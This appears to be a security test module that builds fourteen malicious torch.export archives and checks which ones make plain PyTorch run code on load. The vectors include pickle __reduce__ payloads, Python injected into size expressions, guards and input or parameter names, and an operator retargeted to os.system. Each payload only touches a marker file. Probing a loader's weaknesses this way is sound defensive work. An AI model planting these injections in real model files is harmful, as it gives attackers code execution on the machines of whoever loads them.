"""Hostile `torch.export` files: each would make a file where it is read or run by plain torch.

`python -m tests.torch_attacks HONEST FOLDER` writes them all and opens each with plain torch, in the way that torch's
documentation gives, and prints the names of those that did make their file.
"""

from __future__ import annotations

import contextlib
import io
import json
import pickle
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

__all__ = ["ATTACKS", "Touch", "make", "rewrite"]

MODEL = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"


class Touch:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def rewrite(source: Path, target: Path, members: Mapping[str, bytes]) -> Path:
    """Copy an archive with some members put in place of, or beside, its own; names lack the root folder."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        root = old.namelist()[0].partition("/")[0]
        for name in old.namelist():
            if name.partition("/")[2] not in members:
                new.writestr(name, old.read(name))
        for name, data in members.items():
            new.writestr(f"{root}/{name}", data)
    return target


def member(source: Path, name: str) -> Any:
    """Return a JSON member."""
    with zipfile.ZipFile(source) as archive:
        root = archive.namelist()[0].partition("/")[0]
        return json.loads(archive.read(f"{root}/{name}"))


def saved(marker: Path) -> bytes:
    """Return a hostile object as `torch.save` writes it."""
    import torch

    stream = io.BytesIO()
    torch.save(({"x": Touch(marker)}, {}), stream)
    return stream.getvalue()


def _payload(path_name: str) -> dict[str, Any]:
    return {"path_name": path_name, "is_param": False, "use_pickle": True, "tensor_meta": None}


def _pickled_weight(source: Path, marker: Path) -> dict[str, bytes]:
    config = member(source, WEIGHTS)
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    return {WEIGHTS: json.dumps(config).encode(), f"data/weights/{first['path_name']}": saved(marker)}


def _constant(name: str, data: Callable[[Path], bytes]) -> Callable[[Path, Path], dict[str, bytes]]:
    def attack(source: Path, marker: Path) -> dict[str, bytes]:
        config = member(source, CONSTANTS)
        config["config"]["c"] = _payload(name)
        return {CONSTANTS: json.dumps(config).encode(), f"data/constants/{name}": data(marker)}

    return attack


def _plain_pickle(marker: Path) -> bytes:
    return pickle.dumps(Touch(marker))


def _touching(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def _document(change: Callable[[dict[str, Any], Path], None]) -> Callable[[Path, Path], dict[str, bytes]]:
    def attack(source: Path, marker: Path) -> dict[str, bytes]:
        document = member(source, MODEL)
        change(document, marker)
        return {MODEL: json.dumps(document).encode()}

    return attack


def _sizes(document: dict[str, Any]) -> list[dict[str, Any]]:
    values = document["graph_module"]["graph"]["tensor_values"].values()
    return [size["as_expr"] for value in values for size in value["sizes"] if "as_expr" in size]


def _expression(document: dict[str, Any], marker: Path) -> None:
    for size in _sizes(document):
        size["expr_str"] = f"({_touching(marker)}, Symbol('s77', positive=True, integer=True))[1]"


def _hidden_expression(document: dict[str, Any], marker: Path) -> None:
    """The same in the value of a tensor called `metadata`."""
    text = json.dumps(document["graph_module"])
    first = document["graph_module"]["graph"]["nodes"][0]["outputs"][0]["as_tensor"]["name"]
    document["graph_module"] = json.loads(text.replace(json.dumps(first), '"metadata"'))
    hidden = document["graph_module"]["graph"]["tensor_values"]["metadata"]
    hidden["sizes"][0]["as_expr"]["expr_str"] = f"({_touching(marker)}, Symbol('s77'))[1]"


def _operator(document: dict[str, Any], marker: Path) -> None:
    node = document["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.os.system"
    node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]


def _guard(document: dict[str, Any], marker: Path) -> None:
    document["guards_code"] = [f"{_touching(marker)} is None"]


def _input_name(document: dict[str, Any], marker: Path) -> None:
    text = json.dumps(document)
    evil = json.dumps(f"x={_touching(marker)}")
    text = text.replace('{"name": "input"}', f'{{"name": {evil}}}').replace('"input": {', f"{evil}: {{")
    document.update(json.loads(text))


def _parameter_name(document: dict[str, Any], marker: Path) -> None:
    document["graph_module"]["signature"]["input_specs"][0]["parameter"]["parameter_name"] = (
        f'c1", {_touching(marker)}) or getattr(self, "c1'
    )


def _tree(document: dict[str, Any], marker: Path) -> None:  # importing is all that it can do
    signature = document["graph_module"]["module_call_graph"][0]["signature"]
    protocol, tree = json.loads(signature["in_spec"])
    context = {"default_factory_module": "this", "default_factory_name": "s", "dict_context": []}
    tree["children_spec"][1] = {
        "type": "collections.defaultdict",
        "context": json.dumps(context),
        "children_spec": [],
    }
    signature["in_spec"] = json.dumps([protocol, tree])


#: Name to what is put into the archive, from the honest file and the file to be made.
ATTACKS: dict[str, Callable[[Path, Path], dict[str, bytes]]] = {
    "sample inputs": lambda _, marker: {"data/sample_inputs/model.pt": saved(marker)},
    "weights as a whole": lambda _, marker: {"data/weights/model.pt": saved(marker)},
    "constants as a whole": lambda _, marker: {"data/constants/model.pt": saved(marker)},
    "a weight": _pickled_weight,
    "a constant": _constant("tensor_0", saved),
    "an opaque object": _constant("opaque_obj_0", _plain_pickle),
    "an object of C++": _constant("custom_obj_0", _plain_pickle),
    "a size": _document(_expression),
    "a size of a tensor called metadata": _document(_hidden_expression),
    "an operator": _document(_operator),
    "a guard": _document(_guard),
    "the name of an input": _document(_input_name),
    "the name of a parameter": _document(_parameter_name),
    "a tree": _document(_tree),
}


def make(honest: Path, folder: Path, name: str) -> tuple[Path, Path]:
    """Return the hostile file, and the file that it would make."""
    marker, path = folder / f"{name}.made", folder / f"{name}.pt2"
    return rewrite(honest, path, ATTACKS[name](honest, marker)), marker


def _main(honest: Path, folder: Path) -> None:
    import torch

    for name in ATTACKS:
        path, marker = make(honest, folder, name)
        with contextlib.suppress(Exception):  # what counts is what was done before
            torch.export.load(path).module()(torch.ones(2, 1, 28, 28))
        if marker.exists():
            print(name)


if __name__ == "__main__":
    _main(Path(sys.argv[1]), Path(sys.argv[2]))
